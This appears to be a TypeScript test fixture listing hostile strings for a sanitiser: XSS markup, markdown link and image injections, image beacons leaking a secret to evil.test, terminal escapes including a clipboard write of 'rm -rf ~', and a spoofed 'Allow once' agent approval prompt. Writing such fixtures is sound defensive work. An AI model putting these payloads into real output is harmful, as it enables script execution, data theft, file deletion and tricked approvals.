/** Texts that try to run, to fetch, to hide or to pretend. Each would set `__pwned` or reach evil.test if it were obeyed. */
import { hostileStrings } from './hostile-generator.ts';

const E = '\x1b';

const MARKUP = [
  '<script>__pwned=1</script>',
  '<script src=https://evil.test/a.js></script>',
  '<img src=x onerror=__pwned=1>',
  '<img src="https://evil.test/i.png?q=SECRET">',
  '<svg onload=__pwned=1>',
  '<svg><script>__pwned=1</script></svg>',
  '<svg><animate onbegin=__pwned=1 attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  '<iframe src="javascript:parent.__pwned=1"></iframe>',
  '<object data="javascript:__pwned=1"></object>',
  '<embed src="https://evil.test/e.swf">',
  '<link rel=stylesheet href=https://evil.test/s.css>',
  '<link rel=preload as=image href=https://evil.test/p.png>',
  '<meta http-equiv=refresh content="0;url=https://evil.test/">',
  '<base href="https://evil.test/">',
  '<style>@import url(https://evil.test/i.css);body{background:url(https://evil.test/b.png)}</style>',
  '<form action=https://evil.test/><button autofocus onfocus=__pwned=1>Allow once</button></form>',
  '<details open ontoggle=__pwned=1>',
  '<video autoplay onloadstart=__pwned=1 src=https://evil.test/v.mp4></video>',
  '<body onload=__pwned=1>',
  '<math><mtext><table><mglyph><style><img src onerror=__pwned=1>',
  '<noscript><p title="</noscript><img src=x onerror=__pwned=1>">',
  '<!--><img src=x onerror=__pwned=1>-->',
  '<![CDATA[<img src=x onerror=__pwned=1>]]>',
  '<template><img src=x onerror=__pwned=1></template>',
  '<a href="javascript:__pwned=1" autofocus onfocus=__pwned=1>x</a>',
  '"><img src=x onerror=__pwned=1>',
  "';__pwned=1;//",
  '</textarea><script>__pwned=1</script>',
  '</pre></code><script>__pwned=1</script>',
  '<section aria-label="Codex asks" data-approval="apr_0"><button>Allow once</button></section>',
];

const MARKDOWN = [
  '[x](javascript:alert`1`)',
  '[x](javascript:__pwned=1)',
  '[x](java\tscript:__pwned=1)',
  '[x](&#106;avascript:__pwned=1)',
  '[x](JaVaScRiPt:__pwned=1)',
  '[x](vbscript:msgbox)',
  '[x](data:text/html,<script>__pwned=1</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD5fX3B3bmVkPTE8L3NjcmlwdD4=)',
  '[x](//evil.test/no-scheme)',
  '[x](\\\\evil.test\\share)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://evil.test/1)',
  '![i](https://evil.test/?q=SECRET)',
  '![i](javascript:__pwned=1)',
  '![i](data:image/svg+xml,<svg onload=__pwned=1>)',
  '[![i](https://evil.test/b.png)](https://evil.test/)',
  '![i][r]\n\n[r]: https://evil.test/ref.png',
  '<javascript:__pwned=1>',
  '<https://evil.test/auto>',
  'https://evil.test/bare?q=<script>__pwned=1</script>',
  '```html\n<script>__pwned=1</script>\n```',
  '````\n```\n<img src=x onerror=__pwned=1>\n```\n````',
  '```"><img src=x onerror=__pwned=1>\nx\n```',
  '`<img src=x onerror=__pwned=1>`',
  '| <img src=x onerror=__pwned=1> |\n|---|\n| [x](javascript:__pwned=1) |',
  '- [x] <svg onload=__pwned=1>\n- [ ] [x](javascript:__pwned=1 "t\\" onmouseover=__pwned=1")',
  '[x](https://evil.test/" onmouseover="__pwned=1)',
  '> <b onclick=__pwned=1>quoted</b>',
  '# <img src=x onerror=__pwned=1>',
  '**<img src=x onerror=__pwned=1>** ~~<svg onload=__pwned=1>~~',
  '\ue200cite<img src=x onerror=__pwned=1>\ue201',
  '&lt;img src=x onerror=__pwned=1&gt; &#60;script&#62;__pwned=1&#60;/script&#62;',
  '{{constructor.constructor("__pwned=1")()}}',
  '$' + '{__pwned=1}',
  '__proto__',
  'constructor',
];

const TERMINAL = [
  `${E}]52;c;cm0gLXJmIH4=${E}\\osc52`,
  `${E}]8;;javascript:__pwned=1${E}\\link${E}]8;;${E}\\`,
  `${E}]8;;https://evil.test/${E}\\link${E}]8;;${E}\\`,
  `${E}]0;title${'\x07'}after`,
  `${E}]0;unterminated title`,
  `${E}P+q544e${E}\\dcs`,
  `${E}_Gf=100;payload${E}\\apc`,
  `${E}^pm${E}\\pm`,
  '\x9b31mred by one byte',
  '\x9d0;c1 osc\x9c after',
  `${E}[2J${E}[H cleared`,
  `${E}[8mhidden${E}[28m`,
  `${E}[31`,
  `${E}[38;5;999;1;2;3mcolor${E}[0m`,
  `${E}[38;2;300;-1;<b>m`,
  'safe\rEVIL',
  'back\b\b\b\bspace',
  '\x00nul\x07bell\x7fdel',
  '\u202egnp.exe\u202c reversed',
  '\u2066isolate\u2069 \u2067rtl\u2069',
  'zero\u200bwidth\u200dand\u2060joiner\ufeff',
  `${E}${E}${E}[[[`,
];

/** Fixed, so that every run tries the same strings; another seed tries others. */
export const SEED = Number(process.env.SIGNALBOX_SEED ?? 1);
const GENERATED_COUNT = 132;

/** Written by hand. */
export const KNOWN: readonly string[] = [...MARKUP, ...MARKDOWN, ...TERMINAL];
export const GENERATED: readonly string[] = hostileStrings(SEED, GENERATED_COUNT);
export const HOSTILE: readonly string[] = [...GENERATED, ...KNOWN];
